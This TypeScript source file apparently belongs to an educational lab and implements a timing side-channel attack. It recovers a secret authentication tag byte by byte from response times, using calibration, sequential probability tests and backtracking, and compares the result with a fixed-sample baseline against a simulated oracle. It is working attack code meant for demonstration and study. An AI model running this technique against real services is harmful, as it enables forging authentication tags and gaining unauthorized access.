/**
 * The attacker: recovers the hidden tag one byte at a time from response times alone.
 *
 * 1. Calibration. A guess of the wrong length is refused before any byte is compared; a guess of
 *    the right length whose first byte is wrong is refused after one. Timing both (alternately,
 *    more and more samples until the difference is clear) tells the attacker the noise σ and what
 *    one compared byte costs, δ. No candidate search is needed for that.
 * 2. Each byte. Candidates are tried in random order with Wald's sequential probability ratio test
 *    between "this guess costs one byte more than a wrong one" and "it does not". A wrong guess is
 *    usually thrown out after a few samples; the right one is accepted as soon as the evidence is
 *    strong enough, then confirmed with fresh samples (which also measure the next level). Only
 *    about half the candidates are tried on average, and wrong ones are sampled lightly: that is
 *    where the savings over a fixed number of samples per candidate come from.
 * 3. The last byte needs no timing: the server says which guess is valid.
 * 4. Backtracking. If no candidate at a position is slower than the rest (after a second pass, in
 *    case bad luck threw out the right one), the previous byte was wrong: every guess now stops
 *    one byte earlier. That byte is banned and its position redone.
 *
 * Against a constant-time compare no candidate is ever slower, and the attack says so.
 */
import { bytesToHex } from '../../../core/bytes';
import { createPrng, shuffled, type Prng } from './prng';
import type { Oracle } from './server';
import { median, robustSigma, Sprt, weightedLinearFit } from '../../../core/stats';
import { formatNumber } from '../../../core/number-format';

export interface AttackOptions {
  /** Seed for the attacker's own choices (candidate order, calibration guesses). */
  seed: number;
  /** SPRT: chance of accepting a given wrong candidate. */
  alpha?: number;
  /** SPRT: chance of rejecting the right candidate. */
  beta?: number;
  /** Calibration gives up (no leak) after this many samples of each kind. */
  maxCalibrationSamples?: number;
  maxQueries?: number;
  maxBacktracks?: number;
  /** Progress is reported about this often (in queries), and at every decision. */
  progressEvery?: number;
  onProgress?: (progress: AttackProgress) => void;
}

export interface CandidatePoint {
  byte: number;
  /** Mean time of this candidate's samples, ns. */
  meanNs: number;
  samples: number;
}

export interface PositionRecord {
  position: number;
  byte: number;
  /** Queries spent deciding this position (this attempt). */
  queries: number;
  /** Mean time of the chosen guess (fresh samples), ns. */
  levelNs: number;
  /** Mean time of a wrong guess at this position, as the attacker estimated it, ns. */
  wrongLevelNs: number;
  confidence: number;
  method: 'sequential test' | 'server accepted';
  /** What each tried candidate looked like (for the chart of this position). */
  candidates: CandidatePoint[];
}

export type AttackEvent =
  | { kind: 'calibrated'; sigmaNs: number; deltaNs: number; queries: number }
  | { kind: 'found'; position: number; byte: number; queries: number; confidence: number }
  | { kind: 'backtrack'; position: number; banned: number; queries: number }
  | { kind: 'retry'; position: number; queries: number }
  | { kind: 'gave-up'; position: number; queries: number; reason: string };

export interface AttackProgress {
  found: number[];
  position: number;
  queries: number;
  backtracks: number;
  /** Candidates examined at the current position so far. */
  tried: number;
  confidence: number | null;
  positions: PositionRecord[];
  current: CandidatePoint[];
  events: AttackEvent[];
}

export interface AttackResult {
  recovered: boolean;
  recoveredHex: string;
  /** The recovered bytes (the same as recoveredHex). */
  found: number[];
  queries: number;
  backtracks: number;
  positions: PositionRecord[];
  events: AttackEvent[];
  /** Why the attack stopped, in a sentence. */
  summary: string;
  /** σ and δ as the attacker estimated them (null if calibration found no leak). */
  model: { sigmaNs: number; deltaNs: number } | null;
}

interface Level {
  /** The position whose byte this measurement depends on (−1: calibration). */
  position: number;
  /** Bytes compared before the server answered. */
  k: number;
  sum: number;
  n: number;
}

const ALL_BYTES = Array.from({ length: 256 }, (_, i) => i);

class Stop extends Error {}

export function runAttack(oracle: Oracle, options: AttackOptions): AttackResult {
  return new Attacker(oracle, options).run();
}

/**
 * What the attacker believes about the server's timing: the noise σ, the window observations are
 * clipped to around the level in play (so a hiccup cannot decide anything), and the measured
 * levels (guesses that stop after k compared bytes) a weighted line level(k) = a + b·k goes through.
 */
class TimingModel {
  private levels: Level[] = [];
  sigma = 0;
  /** An observation is clipped to [level − below, level + above]. */
  below = -Infinity;
  above = Infinity;

  /**
   * Calibration's answer: the noise σ and the clipping window, then the levels of 0 and 1
   * compared bytes from n fresh samples each (around m0 and m0 + δ), in place of all before.
   */
  calibrated(sigma: number, delta: number, m0: number, zero: number[], one: number[], n: number) {
    this.sigma = sigma;
    this.below = 4 * sigma;
    this.above = delta + 4 * sigma;
    const clippedMean = (xs: number[], level: number) =>
      xs.reduce((acc, x) => acc + this.clip(x, level), 0) / xs.length;
    this.levels = [
      { position: -1, k: 0, sum: clippedMean(zero, m0) * n, n },
      { position: -1, k: 1, sum: clippedMean(one, m0 + delta) * n, n },
    ];
  }

  clip(x: number, level: number): number {
    return Math.min(level + this.above, Math.max(level - this.below, x));
  }

  line(): { a: number; b: number } {
    const { intercept, slope } = weightedLinearFit(
      this.levels.map(({ k, sum, n }) => ({ x: k, w: n, wy: sum })),
    );
    return { a: intercept, b: slope };
  }

  /** The level of guesses that stop after k bytes: measured where possible, else from the line. */
  levelAt(k: number): number {
    let sum = 0;
    let n = 0;
    for (const level of this.levels)
      if (level.k === k) {
        sum += level.sum;
        n += level.n;
      }
    if (n > 0) return sum / n;
    const { a, b } = this.line();
    return a + b * k;
  }

  add(level: Level) {
    this.levels.push(level);
  }

  /** Drops the levels that depended on byte `position` or a later one. */
  forgetFrom(position: number) {
    this.levels = this.levels.filter((level) => level.position < position);
  }

  get estimate(): AttackResult['model'] {
    return this.levels.length >= 2 ? { sigmaNs: this.sigma, deltaNs: this.line().b } : null;
  }
}

/**
 * One run of the attack, its state explicit (after the pickle lab's Machine): the timing model,
 * the bytes found and banned, the position being decided, and the log the page is shown.
 */
class Attacker {
  private readonly T: number;
  private readonly alpha: number;
  private readonly beta: number;
  private readonly maxCalibration: number;
  private readonly maxQueries: number;
  private readonly maxBacktracks: number;
  private readonly progressEvery: number;
  private readonly prng: Prng;
  private readonly startQueries: number;

  private readonly timing = new TimingModel();
  /** Samples of each kind the last successful calibration took (0: none yet). */
  private calibratedWith = 0;
  /** The bytes believed right so far, one record per byte, and per position the bytes ruled out. */
  private readonly prefix: number[] = [];
  private readonly positions: PositionRecord[] = [];
  private readonly banned: Set<number>[];
  private backtracks = 0;
  /** The position being decided: the candidates examined so far, and how many were tried. */
  private current: CandidatePoint[] = [];
  private tried = 0;
  private lastConfidence: number | null = null;
  private readonly events: AttackEvent[] = [];
  private nextReport: number;

  constructor(
    private readonly oracle: Oracle,
    private readonly options: AttackOptions,
  ) {
    this.T = oracle.tagBytes;
    this.alpha = options.alpha ?? 1e-4;
    this.beta = options.beta ?? 0.01;
    this.maxCalibration = options.maxCalibrationSamples ?? 1_048_576;
    this.maxQueries = options.maxQueries ?? 50_000_000;
    this.maxBacktracks = options.maxBacktracks ?? 2 * this.T + 4;
    this.progressEvery = options.progressEvery ?? 20_000;
    this.prng = createPrng(options.seed);
    this.startQueries = oracle.queries;
    this.banned = Array.from({ length: this.T }, () => new Set<number>());
    this.nextReport = this.progressEvery;
  }

  run(): AttackResult {
    const reason = this.recover();
    if (reason !== null)
      this.events.push({
        kind: 'gave-up',
        position: this.prefix.length,
        queries: this.used(),
        reason,
      });
    const recovered = reason === null;
    this.report(true);
    return {
      recovered,
      recoveredHex: bytesToHex(Uint8Array.from(this.prefix)),
      found: this.prefix.slice(),
      queries: this.used(),
      backtracks: this.backtracks,
      positions: this.positions,
      events: this.events,
      summary: recovered
        ? `Recovered all ${this.T} bytes with ${formatNumber(this.used())} queries; the server accepted the tag.`
        : reason,
      model: this.timing.estimate,
    };
  }

  /** Finds the tag byte by byte; returns null once it has, else why it gave up. */
  private recover(): string | null {
    const { T } = this;
    try {
      if (T > 1 && !this.calibrate())
        return `A wrong-length guess and a wrong first byte took the same time after ${formatNumber(this.maxCalibration)} samples each: whatever the compare costs per byte is buried in the noise here, so the attacker stops.`;
      let retriedFirst = false;
      while (this.prefix.length < T) {
        const p = this.prefix.length;
        const byte = p === T - 1 ? this.lastByte() : this.sequential();
        if (byte !== null) {
          this.prefix.push(byte);
          this.log({
            kind: 'found',
            position: p,
            byte,
            queries: this.used(),
            confidence: this.lastConfidence ?? 0,
          });
          continue;
        }
        if (p === 0 && !retriedFirst) {
          // Nothing can be banned before byte 0. A calibration that misjudged δ makes every
          // candidate look wrong: measure it again, with twice the samples, and try once more.
          retriedFirst = true;
          this.banned[0]!.clear();
          if (this.calibratedWith > 0 && !this.calibrate(2 * this.calibratedWith)) continue;
          this.log({ kind: 'retry', position: 0, queries: this.used() });
          continue;
        }
        if (p === 0)
          return 'No candidate for byte 0 took longer than the others: the compare does not stop early, so its time says nothing about the tag.';
        if (this.backtracks < this.maxBacktracks && this.stillLooksRight()) {
          // Byte p − 1 is confirmed: measure this position's level afresh and try it again, with
          // nothing banned here (an earlier backtrack may have banned the right byte by bad luck).
          this.timing.forgetFrom(p - 1);
          this.banned[p]!.clear();
          this.backtracks++;
          this.log({ kind: 'retry', position: p, queries: this.used() });
          continue;
        }
        if (this.backtracks >= this.maxBacktracks)
          return `Gave up after ${this.backtracks} backtracks: the noise is too high for these settings.`;
        // Nothing stood out here: the previous byte must be wrong, and the levels measured behind
        // it are not what they seemed.
        const wrong = this.prefix.pop()!;
        this.positions.pop();
        this.timing.forgetFrom(p - 1);
        this.banned[p - 1]!.add(wrong);
        this.banned[p]!.clear();
        this.backtracks++;
        this.log({ kind: 'backtrack', position: p - 1, banned: wrong, queries: this.used() });
      }
      return null;
    } catch (error) {
      if (!(error instanceof Stop)) throw error;
      return `Stopped: ${error.message}.`;
    }
  }

  private used(): number {
    return this.oracle.queries - this.startQueries;
  }

  /** Records a decision and reports it at once. */
  private log(event: AttackEvent) {
    this.events.push(event);
    this.report(true);
  }

  private report(force = false) {
    const { onProgress } = this.options;
    if (!onProgress || (!force && this.used() < this.nextReport)) return;
    this.nextReport = this.used() + this.progressEvery;
    onProgress({
      found: this.prefix.slice(),
      position: this.prefix.length,
      queries: this.used(),
      backtracks: this.backtracks,
      tried: this.tried,
      confidence: this.lastConfidence,
      positions: this.positions.slice(),
      current: this.current.slice(),
      events: this.events.slice(),
    });
  }

  private guessFor(candidate: number): Uint8Array {
    const guess = new Uint8Array(this.T);
    guess.set(this.prefix);
    guess[this.prefix.length] = candidate;
    return guess;
  }

  private time(guess: Uint8Array) {
    if (this.used() >= this.maxQueries)
      throw new Stop(`the budget of ${formatNumber(this.maxQueries)} queries ran out`);
    const answer = this.oracle.query(guess);
    this.report();
    return answer;
  }

  /** Wrong length (0 bytes compared) against a wrong first byte (1 byte compared). */
  private calibrate(from = 64): boolean {
    const { T, prng } = this;
    const short = new Uint8Array(Math.max(0, T - 1));
    let zero: number[] = [];
    let one: number[] = [];
    const sample = (n: number) => {
      while (one.length < n) {
        zero.push(this.time(short).ns);
        const guess = new Uint8Array(T);
        guess[0] = prng.int(256);
        one.push(this.time(guess).ns);
      }
    };
    for (let n = from; n <= this.maxCalibration; n *= 2) {
      sample(n);
      const m0 = median(zero);
      const s = Math.max(robustSigma(zero), robustSigma(one), 1e-6);
      const delta = median(one) - m0;
      const se = (1.2533 * s * Math.SQRT2) / Math.sqrt(n);
      this.report(true);
      if (delta > 6 * se || (s <= 1e-6 && delta > 0)) {
        // Stopping at the first clear look favours looks that happened to overstate δ: the
        // levels are measured again on fresh samples.
        zero = [];
        one = [];
        sample(n);
        this.calibratedWith = n;
        const sigma = Math.max(s, delta / 8);
        this.timing.calibrated(sigma, delta, m0, zero, one, n);
        this.events.push({
          kind: 'calibrated',
          sigmaNs: sigma,
          deltaNs: this.timing.line().b,
          queries: this.used(),
        });
        return true;
      }
    }
    return false;
  }

  /** Random guesses for this byte are wrong (255 times in 256): their mean is the level to beat. */
  private measureWrongLevel() {
    const p = this.prefix.length;
    const { timing } = this;
    const { a, b } = timing.line();
    const n = Math.ceil(32 * (timing.sigma / b) ** 2) + 16;
    let sum = 0;
    for (let i = 0; i < n; i++)
      sum += timing.clip(this.time(this.guessFor(this.prng.int(256))).ns, a + b * (p + 1));
    timing.add({ position: p - 1, k: p + 1, sum, n });
  }

  /**
   * Before banning byte p − 1 because nothing at p stood out: is it really slower than a wrong
   * byte there? If clearly so, the failure at p was bad luck and p is tried again instead.
   */
  private stillLooksRight(): boolean {
    const { prefix, timing } = this;
    const p = prefix.length;
    const { b } = timing.line();
    const n = Math.ceil(64 * (timing.sigma / b) ** 2) + 16;
    const withByte = new Uint8Array(this.T);
    withByte.set(prefix);
    const level = timing.levelAt(p);
    let right = 0;
    let wrong = 0;
    for (let i = 0; i < n; i++) {
      right += timing.clip(this.time(withByte).ns, level);
      const other = withByte.slice();
      other[p - 1] = (prefix[p - 1]! + 1 + this.prng.int(255)) & 0xff;
      wrong += timing.clip(this.time(other).ns, level);
    }
    // Banning a right byte is costly and keeping a wrong one is cheap (the next position fails
    // again and asks again), so the bar for "still looks right" is low.
    return (right - wrong) / n / (timing.sigma * Math.sqrt(2 / n)) > 2;
  }

  /** One pass of sequential tests over `order`; returns the confirmed byte or null. */
  private pass(order: readonly number[]): number | null {
    const { timing } = this;
    const { sigma } = timing;
    const p = this.prefix.length;
    const { b } = timing.line();
    const mu0 = timing.levelAt(p + 1);
    const low = mu0 - timing.below;
    const high = mu0 + timing.above;
    const cap = Math.ceil(60 * (sigma / b) ** 2) + 20;
    const confirmations = Math.ceil(32 * (sigma / b) ** 2) + 8;
    const start = this.used();
    for (const c of order) {
      if (this.banned[p]!.has(c)) continue;
      this.tried++;
      const guess = this.guessFor(c);
      const test = new Sprt(mu0, b, sigma, this.alpha, this.beta, low, high);
      let decision: 'H1' | 'H0' | 'continue' = 'continue';
      let sum = 0;
      while (decision === 'continue' && test.n < cap) {
        const { ns } = this.time(guess);
        sum += ns;
        decision = test.add(ns);
      }
      this.current.push({ byte: c, meanNs: sum / test.n, samples: test.n });
      if (decision !== 'H1') continue;
      // Confirm with fresh samples: they are unbiased (the test stopped on a high run), and their
      // mean is the level every wrong guess at the next position will have.
      let fresh = 0;
      for (let i = 0; i < confirmations; i++) fresh += timing.clip(this.time(guess).ns, mu0 + b);
      const level = fresh / confirmations;
      const z = (level - (mu0 + b / 2)) / (sigma / Math.sqrt(confirmations));
      if (z < 1) continue;
      const ratio = Math.exp(Math.min(test.llr, 700));
      this.lastConfidence = ratio / (ratio + 255);
      timing.add({ position: p, k: p + 2, sum: fresh, n: confirmations });
      this.positions.push({
        position: p,
        byte: c,
        queries: this.used() - start,
        levelNs: level,
        wrongLevelNs: mu0,
        confidence: this.lastConfidence,
        method: 'sequential test',
        candidates: this.current.slice(),
      });
      return c;
    }
    return null;
  }

  private sequential(): number | null {
    this.current = [];
    this.tried = 0;
    this.measureWrongLevel();
    const first = this.pass(shuffled(ALL_BYTES, this.prng));
    if (first !== null) return first;
    // The right candidate can be thrown out by bad luck (β): one more pass, most promising first,
    // before concluding that the previous byte was wrong.
    const order = this.current
      .slice()
      .sort((x, y) => y.meanNs - x.meanNs)
      .map((point) => point.byte);
    this.current = [];
    return this.pass(order);
  }

  /** The last byte: the server itself says which guess is right. */
  private lastByte(): number | null {
    const p = this.prefix.length;
    const start = this.used();
    this.current = [];
    this.tried = 0;
    const { a, b } = this.timing.line();
    for (const c of ALL_BYTES) {
      if (this.banned[p]!.has(c)) continue;
      this.tried++;
      const { accepted, ns } = this.time(this.guessFor(c));
      this.current.push({ byte: c, meanNs: ns, samples: 1 });
      if (accepted) {
        this.lastConfidence = 1;
        this.positions.push({
          position: p,
          byte: c,
          queries: this.used() - start,
          levelNs: ns,
          wrongLevelNs: a + b * this.T,
          confidence: 1,
          method: 'server accepted',
          candidates: this.current.slice(),
        });
        return c;
      }
    }
    return null;
  }
}

/**
 * The baseline the adaptive attack is measured against: the same number of samples for every
 * candidate at every position, the slowest clipped mean wins, no calibration and no backtracking.
 * The last byte is read from the server's answer, as in the adaptive attack.
 */
export function fixedSampleAttack(oracle: Oracle, samplesPerCandidate: number, seed = 1) {
  const T = oracle.tagBytes;
  const prng = createPrng(seed);
  const start = oracle.queries;
  const prefix: number[] = [];
  for (let p = 0; p < T - 1; p++) {
    const samples = ALL_BYTES.map(() => [] as number[]);
    for (let r = 0; r < samplesPerCandidate; r++)
      for (const c of shuffled(ALL_BYTES, prng)) {
        const guess = new Uint8Array(T);
        guess.set(prefix);
        guess[p] = c;
        samples[c]!.push(oracle.query(guess).ns);
      }
    const pooled = samples.flat();
    const m = median(pooled);
    const s = robustSigma(pooled);
    const clipped = (x: number) => (s > 0 ? Math.min(m + 4 * s, Math.max(m - 4 * s, x)) : x);
    let best = 0;
    let bestMean = -Infinity;
    samples.forEach((xs, c) => {
      const value = xs.reduce((acc, x) => acc + clipped(x), 0) / xs.length;
      if (value > bestMean) [best, bestMean] = [c, value];
    });
    prefix.push(best);
  }
  let accepted = false;
  for (let c = 0; c < 256 && !accepted; c++) {
    const guess = new Uint8Array(T);
    guess.set(prefix);
    guess[T - 1] = c;
    if (oracle.query(guess).accepted) {
      prefix.push(c);
      accepted = true;
    }
  }
  return {
    recovered: accepted,
    recoveredHex: bytesToHex(Uint8Array.from(prefix)),
    queries: oracle.queries - start,
  };
}
